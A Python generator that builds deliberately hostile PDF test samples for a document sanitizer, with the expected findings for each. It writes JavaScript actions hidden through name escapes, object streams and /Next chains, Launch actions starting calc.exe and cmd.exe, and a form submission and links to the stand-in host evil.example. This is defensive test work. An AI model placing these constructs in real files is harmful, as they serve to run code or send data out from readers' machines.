#!/usr/bin/env python3
"""Write the hand-made PDF samples of tests/corpus/files/pdf/.

Each sample is a small PDF built byte by byte (correct xref unless the
sample is broken on purpose) next to a .expect file for `sanso file
sanitize`. Encrypted samples are made with qpdf --encrypt.

    python3 tests/corpus/gen/pdf.py [outdir]
"""
import os
import shutil
import subprocess
import sys
import tempfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "files", "pdf")

CONTENT = b"BT /F1 24 Tf 72 720 Td (Hello, sanso) Tj ET"


class Pdf:
    """Objects by number; build() writes header, bodies, xref, trailer."""

    def __init__(self, version="1.7"):
        self.version = version
        self.objs = {}

    def add(self, body, num=None):
        if num is None:
            num = max(self.objs, default=0) + 1
        if isinstance(body, str):
            body = body.encode("latin-1")
        self.objs[num] = body
        return num

    def reserve(self):
        return self.add(b"null")

    @staticmethod
    def stream(dict_src, data, compress=False):
        if isinstance(data, str):
            data = data.encode("latin-1")
        if compress:
            data = zlib.compress(data)
            dict_src += " /Filter /FlateDecode"
        return ("<< %s /Length %d >>\nstream\n" % (dict_src, len(data))).encode(
            "latin-1") + data + b"\nendstream"

    def body(self):
        out = bytearray(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % self.version.encode())
        offsets = {}
        for num in sorted(self.objs):
            offsets[num] = len(out)
            out += b"%d 0 obj\n" % num + self.objs[num] + b"\nendobj\n"
        return out, offsets

    def build(self, root, info=None, break_xref=False):
        out, offsets = self.body()
        size = max(self.objs) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for num in range(1, size):
            if num in offsets:
                ofs = offsets[num] + (7 if break_xref else 0)
                out += b"%010d 00000 n \n" % ofs
            else:
                out += b"0000000000 65535 f \n"
        trailer = "<< /Size %d /Root %d 0 R" % (size, root)
        if info:
            trailer += " /Info %d 0 R" % info
        out += b"trailer\n" + trailer.encode() + b" >>\n"
        out += b"startxref\n%d\n%%%%EOF\n" % xref
        return bytes(out)

    def build_objstm(self, root, packed):
        """PDF 1.5: objects in `packed` go into one compressed object
        stream; the xref is a cross-reference stream."""
        self.version = "1.5"
        heads, bodies = [], b""
        for num in packed:
            heads.append("%d %d" % (num, len(bodies)))
            bodies += self.objs.pop(num) + b"\n"
        head = (" ".join(heads) + "\n").encode()
        stm_num = max(list(self.objs) + list(packed)) + 1
        self.objs[stm_num] = self.stream(
            "/Type /ObjStm /N %d /First %d" % (len(packed), len(head)),
            head + bodies, compress=True)
        out, offsets = self.body()
        xref_num = stm_num + 1
        size = xref_num + 1
        rows = b""
        index = {num: i for i, num in enumerate(packed)}
        for num in range(size):
            if num in offsets:
                rows += bytes([1]) + offsets[num].to_bytes(4, "big") + bytes([0])
            elif num in index:
                rows += bytes([2]) + stm_num.to_bytes(4, "big") + bytes([index[num]])
            elif num == xref_num:
                rows += bytes([1]) + len(out).to_bytes(4, "big") + bytes([0])
            else:
                rows += bytes([0]) + bytes(4) + bytes([255])
        xref_ofs = len(out)
        out += b"%d 0 obj\n" % xref_num + self.stream(
            "/Type /XRef /Size %d /W [1 4 1] /Root %d 0 R" % (size, root),
            rows, compress=True) + b"\nendobj\n"
        out += b"startxref\n%d\n%%%%EOF\n" % xref_ofs
        return bytes(out)


def update(base, objs, root, size):
    """Append an incremental update that (re)defines objs."""
    prev = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(base)
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        body = objs[num].encode("latin-1") if isinstance(objs[num], str) else objs[num]
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, root, prev)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def page_doc(pdf, catalog_extra="", page_extra="", annots=None):
    """Catalog 1, pages 2, page 3, contents 4, font 5. Returns root."""
    pdf.add("<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra, 1)
    pdf.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 2)
    ann = ""
    if annots:
        ann = "/Annots [%s]" % " ".join("%d 0 R" % a for a in annots)
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            "/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R %s %s >>"
            % (ann, page_extra), 3)
    pdf.add(Pdf.stream("", CONTENT), 4)
    pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", 5)
    return 1


def simple(catalog_extra="", page_extra="", annots=None, extra=None):
    pdf = Pdf()
    page_doc(pdf, catalog_extra, page_extra, annots)
    for num, body in (extra or {}).items():
        pdf.add(body, num)
    return pdf.build(1)


# ---- the samples --------------------------------------------------------

SAMPLES = {}


def sample(name, expect):
    def deco(fn):
        SAMPLES[name] = (fn, expect)
        return fn
    return deco


@sample("clean-text.pdf", """# one page of text, nothing active
verdict clean
no-finding pdf.javascript
""")
def clean_text():
    return simple()


@sample("clean-objstm.pdf", """# benign PDF 1.5 with object and xref streams
verdict clean
""")
def clean_objstm():
    pdf = Pdf()
    page_doc(pdf)
    return pdf.build_objstm(1, [2, 3, 5])


@sample("clean-goto-openaction.pdf", """# OpenAction that only shows page 1: kept, reported
verdict clean
finding pdf.open_action reported
""")
def clean_goto_openaction():
    return simple(catalog_extra="/OpenAction [3 0 R /Fit]")


@sample("js-openaction.pdf", """# JavaScript OpenAction
verdict sanitized
finding pdf.open_action removed
finding pdf.javascript removed
""")
def js_openaction():
    return simple(catalog_extra="/OpenAction 6 0 R",
                  extra={6: "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"})


@sample("js-names-tree.pdf", """# document-level JavaScript in the /Names tree, code in a stream
verdict sanitized
finding pdf.javascript removed
""")
def js_names_tree():
    return simple(catalog_extra="/Names << /JavaScript 6 0 R >>",
                  extra={6: "<< /Names [(init) 7 0 R] >>",
                         7: "<< /S /JavaScript /JS 8 0 R >>",
                         8: Pdf.stream("", "app.launchURL('http://evil.example/');",
                                       compress=True)})


@sample("js-objstm.pdf", """# JS action hidden in a compressed object stream (xref stream file)
verdict sanitized
finding pdf.open_action removed
finding pdf.javascript removed
""")
def js_objstm():
    pdf = Pdf()
    page_doc(pdf, catalog_extra="/OpenAction 6 0 R")
    pdf.add("<< /S /JavaScript /JS (app.alert\\(1\\)) >>", 6)
    return pdf.build_objstm(1, [2, 3, 6])


@sample("js-name-escape.pdf", """# /S /J#61vaScript and the key /#4A#53 on a link: names are parsed first
verdict sanitized
finding pdf.javascript removed
""")
def js_name_escape():
    return simple(annots=[6],
                  extra={6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] "
                            "/A << /S /J#61vaScript /#4A#53 (this.exportDataObject\\({}\\)) >> >>"})


@sample("js-odd-case.pdf", """# lower-case /S /javascript and a /js key: removed anyway (fail closed)
verdict sanitized
finding pdf.javascript removed
""")
def js_odd_case():
    return simple(annots=[6, 7],
                  extra={6: "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /javascript /JS (1) >> >>",
                         7: "<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /A << /S /GoTo /D [3 0 R /Fit] /js (2) >> >>"})


@sample("js-incremental.pdf", """# clean base revision; an incremental update adds a JS OpenAction
verdict sanitized
finding pdf.incremental_update reported
finding pdf.open_action removed
finding pdf.javascript removed
""")
def js_incremental():
    pdf = Pdf()
    page_doc(pdf)
    base = pdf.build(1)
    return update(base, {
        1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        6: "<< /S /JavaScript /JS (app.alert\\('update'\\)) >>"}, 1, 7)


@sample("js-broken-xref.pdf", """# JS OpenAction in a file whose xref offsets are all wrong (repaired)
verdict sanitized
finding pdf.javascript removed
""")
def js_broken_xref():
    pdf = Pdf()
    page_doc(pdf, catalog_extra="/OpenAction 6 0 R")
    pdf.add("<< /S /JavaScript /JS (app.alert\\(2\\)) >>", 6)
    return pdf.build(1, break_xref=True)


@sample("js-next-chain.pdf", """# harmless GoTo link whose /Next chain hides JavaScript (and a cycle)
verdict sanitized
finding pdf.javascript removed
""")
def js_next_chain():
    return simple(annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A 7 0 R >>",
        7: "<< /S /GoTo /D [3 0 R /Fit] /Next [8 0 R] >>",
        8: "<< /S /Named /N /NextPage /Next 9 0 R >>",
        9: "<< /S /JavaScript /JS (app.alert\\(3\\)) /Next 7 0 R >>"})


@sample("aa-widget.pdf", """# form field widget with /AA keystroke and format JavaScript
verdict sanitized
finding pdf.additional_action removed
finding pdf.javascript removed
""")
def aa_widget():
    return simple(catalog_extra="/AcroForm << /Fields [6 0 R] >>", annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 630] "
           "/P 3 0 R /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> "
           "/F 7 0 R >> >>",
        7: "<< /S /JavaScript /JS (event.value = 'x';) >>"})


@sample("aa-page-catalog.pdf", """# /AA on the catalog (will close) and on the page (open)
verdict sanitized
finding pdf.additional_action removed
finding pdf.launch removed
""")
def aa_page_catalog():
    return simple(catalog_extra="/AA << /WC << /S /Launch /F (calc.exe) >> >>",
                  page_extra="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")


@sample("launch-link.pdf", """# Launch action in a link annotation
verdict sanitized
finding pdf.launch removed
""")
def launch_link():
    return simple(annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /Launch "
           "/Win << /F (cmd.exe) /P (/c calc) >> >> >>"})


@sample("submit-form.pdf", """# push button that submits the form to a remote URL
verdict sanitized
finding pdf.submit_form removed
""")
def submit_form():
    return simple(catalog_extra="/AcroForm << /Fields [6 0 R] >>", annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "
           "/Rect [72 600 200 630] /P 3 0 R /A << /S /SubmitForm "
           "/F << /FS /URL /F (http://evil.example/collect) >> /Flags 4 >> >>"})


@sample("import-data.pdf", """# outline item running ImportData
verdict sanitized
finding pdf.import_data removed
""")
def import_data():
    return simple(catalog_extra="/Outlines 6 0 R", extra={
        6: "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        7: "<< /Title (Import) /Parent 6 0 R /A << /S /ImportData /F (data.fdf) >> >>"})


@sample("goto-remote.pdf", """# link to a page of another (remote) file
verdict sanitized
finding pdf.goto_remote removed
""")
def goto_remote():
    return simple(annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /GoToR "
           "/F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"})


def embedded_stream():
    return Pdf.stream("/Type /EmbeddedFile /Subtype /application#2Fx-msdownload",
                      "MZ-not-really-a-program", compress=True)


@sample("goto-embedded.pdf", """# GoToE into an attached PDF, attachment in /EmbeddedFiles
verdict sanitized
finding pdf.goto_embedded removed
finding pdf.embedded_file removed
""")
def goto_embedded():
    return simple(catalog_extra="/Names << /EmbeddedFiles << /Names [(a.pdf) 7 0 R] >> >> "
                                "/OpenAction [3 0 R /Fit]",
                  annots=[6], extra={
                      6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /GoToE "
                         "/T << /R /C /N (a.pdf) >> /D [0 /Fit] >> >>",
                      7: "<< /Type /Filespec /F (a.pdf) /UF (a.pdf) /EF << /F 8 0 R >> >>",
                      8: embedded_stream()})


@sample("embedded-file.pdf", """# attachment three ways: /EmbeddedFiles, FileAttachment annotation, /AF
verdict sanitized
finding pdf.embedded_file removed
""")
def embedded_file():
    return simple(catalog_extra="/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> "
                                "/AF [6 0 R]",
                  annots=[8], extra={
                      6: "<< /Type /Filespec /F (x.exe) /UF (x.exe) /AFRelationship /Data "
                         "/EF << /F 7 0 R >> >>",
                      7: embedded_stream(),
                      8: "<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] "
                         "/Name /PushPin /FS 6 0 R /Contents (open me) >>"})


@sample("richmedia.pdf", """# RichMedia annotation and a Screen annotation with a Rendition action
verdict sanitized
finding pdf.richmedia removed
""")
def richmedia():
    return simple(annots=[6, 9], extra={
        6: "<< /Type /Annot /Subtype /RichMedia /Rect [72 400 300 600] "
           "/RichMediaContent << /Assets << /Names [(a.swf) 7 0 R] >> >> >>",
        7: "<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>",
        8: Pdf.stream("/Type /EmbeddedFile", "FWS-not-flash"),
        9: "<< /Type /Annot /Subtype /Screen /Rect [72 100 300 300] /P 3 0 R "
           "/A << /S /Rendition /OP 0 /AN 9 0 R /R << /S /MR /C << /S /MCD "
           "/D << /FS /URL /F (http://evil.example/m.mp4) >> >> >> >> >>"})


@sample("xfa.pdf", """# AcroForm carrying an XFA form
verdict sanitized
finding pdf.xfa removed
""")
def xfa():
    return simple(catalog_extra="/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
                  extra={6: Pdf.stream("", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
                                       "<script contentType=\"application/x-javascript\">"
                                       "app.alert(4)</script></xdp:xdp>")})


@sample("uri-link.pdf", """# web link; the default link policy keeps and reports it
verdict clean
finding pdf.uri reported
""")
def uri_link():
    return simple(annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] "
           "/A << /S /URI /URI (https://www.example.jp/) >> >>"})


@sample("uri-next-launch.pdf", """# kept web link whose /Next launches a program
verdict sanitized
finding pdf.uri reported
finding pdf.launch removed
""")
def uri_next_launch():
    return simple(annots=[6], extra={
        6: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] "
           "/A << /S /URI /URI (https://www.example.jp/) /Next << /S /Launch /F (a.bat) >> >> >>"})


@sample("uri-unsafe-scheme.pdf", """# links to javascript:, file: and a UNC path go even though links are kept
verdict sanitized
finding pdf.uri removed
finding pdf.uri reported
""")
def uri_unsafe_scheme():
    links = ["( \\tjava\\tscript:app.alert\\(1\\))", "(file:///C:/Windows/System32/calc.exe)",
             "(\\\\\\\\evil.example\\\\share)", "(https://www.example.jp/ok)"]
    extra = {}
    for i, uri in enumerate(links):
        extra[6 + i] = ("<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] "
                        "/A << /S /URI /URI %s >> >>" % (700 - 40 * i, 730 - 40 * i, uri))
    return simple(annots=sorted(extra), extra=extra)


@sample("truncated.pdf", """# first half of a file: objects and xref missing
verdict blocked
finding pdf.malformed blocked
""")
def truncated():
    pdf = Pdf()
    page_doc(pdf)
    data = pdf.build(1)
    return data[:data.index(b"3 0 obj")]


@sample("garbage.pdf", """# PDF header followed by noise
verdict blocked
finding pdf.malformed blocked
""")
def garbage():
    noise = bytes((i * 73 + 41) % 251 for i in range(2048))
    return b"%PDF-1.7\n" + noise.replace(b"obj", b"ojb")


@sample("limit-objects.pdf", """# 2 kB file whose xref stream holds 600000 entries (over limits.pdf_objects)
verdict blocked
finding limit.pdf_objects blocked
""")
def limit_objects():
    pdf = Pdf("1.5")
    page_doc(pdf)
    out, offsets = pdf.body()
    size = 600000
    rows = bytearray(6 * size)   # type 0: free; zeros compress to nothing
    for num, ofs in offsets.items():
        rows[6 * num:6 * num + 6] = bytes([1]) + ofs.to_bytes(4, "big") + bytes([0])
    xref = len(out)
    rows[6 * 6:6 * 7] = bytes([1]) + xref.to_bytes(4, "big") + bytes([0])
    out += b"6 0 obj\n" + Pdf.stream("/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R" % size,
                                     bytes(rows), compress=True) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def encrypt(data, user, owner, bits):
    qpdf = shutil.which("qpdf")
    if qpdf is None:
        sys.exit("qpdf is needed for the encrypted samples")
    with tempfile.TemporaryDirectory() as tmp:
        src, dst = os.path.join(tmp, "in.pdf"), os.path.join(tmp, "out.pdf")
        with open(src, "wb") as f:
            f.write(data)
        # Fixed /ID and AES IVs keep the sample the same from run to run
        # (test-only qpdf switches; the crypto strength does not matter here).
        aes = ["--use-aes=y"] if bits == 128 else []
        subprocess.run([qpdf, "--static-id", "--static-aes-iv", "--encrypt", user,
                        owner, str(bits)] + aes + ["--", src, dst], check=True)
        with open(dst, "rb") as f:
            return f.read()


@sample("encrypted-user-password.pdf", """# AES-128, user password needed: a person must decide
verdict held
finding pdf.encrypted held
""")
def encrypted_user_password():
    # AES-128: qpdf makes it byte-identical from run to run (AES-256
    # salts are random).
    return encrypt(simple(), "secret", "owner", 128)


@sample("encrypted-empty-js.pdf", """# AES-128 with an empty user password; JS inside the encrypted strings
verdict sanitized
finding pdf.encrypted reported
finding pdf.javascript removed
""")
def encrypted_empty_js():
    return encrypt(js_openaction(), "", "owner", 128)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else OUT
    os.makedirs(out, exist_ok=True)
    for name, (fn, expect) in sorted(SAMPLES.items()):
        with open(os.path.join(out, name), "wb") as f:
            f.write(fn())
        with open(os.path.join(out, name + ".expect"), "w", encoding="utf-8") as f:
            f.write(expect)
    print("%d samples in %s" % (len(SAMPLES), out))


if __name__ == "__main__":
    main()
